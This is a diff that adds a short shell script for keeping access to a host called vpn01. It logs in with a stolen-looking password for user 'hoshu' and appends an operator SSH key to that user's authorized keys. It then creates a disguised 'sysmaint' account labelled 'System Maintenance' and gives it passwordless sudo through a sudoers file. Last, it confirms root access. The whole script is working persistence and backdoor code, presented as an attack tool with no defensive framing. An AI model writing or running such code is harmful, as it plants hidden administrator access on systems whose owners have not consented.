@@ -1,0 +1,22 @@
+#!/bin/sh
+# Persistence on vpn01: an SSH key for hoshu and a new sudo account "sysmaint" with the same key.
+. /root/ops/common.sh
+pw=$(hoshu_pw)
+[ -n "$pw" ] || { log "persist: no password"; exit 1; }
+[ -f "$KEY" ] || ssh-keygen -q -t ed25519 -N '' -C 'oper@vps-3321' -f "$KEY"
+PUB=$(cat "$KEY.pub")
+log "persist session as hoshu"
+typed <<CMDS | timeout 150 sshpass -p "$pw" ssh -tt $SSHO -o PubkeyAuthentication=no "hoshu@$TARGET" > "$OPS/session-persist.log" 2>&1
+mkdir -p ~/.ssh && chmod 700 ~/.ssh
+echo '$PUB' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys
+sudo useradd -m -s /bin/bash -c "System Maintenance" sysmaint
+echo 'sysmaint ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/90-sysmaint >/dev/null
+sudo chmod 440 /etc/sudoers.d/90-sysmaint
+sudo install -d -m 700 -o sysmaint -g sysmaint /home/sysmaint/.ssh
+echo '$PUB' | sudo tee /home/sysmaint/.ssh/authorized_keys >/dev/null
+sudo chown sysmaint:sysmaint /home/sysmaint/.ssh/authorized_keys
+sudo chmod 600 /home/sysmaint/.ssh/authorized_keys
+exit
+CMDS
+log "persist done rc=$?"
+ssh $SSHO -o BatchMode=yes -i "$KEY" "sysmaint@$TARGET" 'sudo -n id' >> "$OPS/op.log" 2>&1
